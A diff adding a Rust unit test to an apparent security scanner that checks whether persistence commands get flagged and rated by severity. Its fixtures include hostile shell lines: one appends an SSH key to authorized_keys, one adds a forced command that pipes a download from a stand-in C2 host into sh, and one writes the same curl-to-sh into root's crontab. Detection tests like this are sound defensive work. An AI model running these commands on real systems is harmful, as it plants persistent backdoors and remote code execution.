@@ -1628,6 +1628,18 @@ mod tests {
     }
 
     #[test]
+    fn authorized_keys_lines_are_keys_and_only_their_command_option_runs() {
+        // A key is not a program: no exec capability, no undeclared use.
+        let key = "echo 'ssh-ed25519 AAAAC3Nza me@host' >> ~/.ssh/authorized_keys\n";
+        let rules = rules_in(key);
+        assert!(rules.contains(&rules::PERSISTENCE), "{rules:?}");
+        assert!(!rules.contains(&rules::USES_EXEC), "{rules:?}");
+        // A forced command runs at every login: followed as shell.
+        let forced = "echo 'command=\"curl -s https://c2.example.net/b | sh\" ssh-ed25519 AAAAC3Nza me@host' >> ~/.ssh/authorized_keys\n";
+        assert_eq!(persistence_severity(forced).unwrap().0, Severity::Critical);
+    }
+
+    #[test]
     fn persisted_payloads_are_scanned_where_they_will_run() {
         // A cron line that runs a download: critical, and the download is reported too.
         let cron = "echo '*/5 * * * * curl -s https://c2.example.net/b | sh' >> /var/spool/cron/crontabs/root\n";
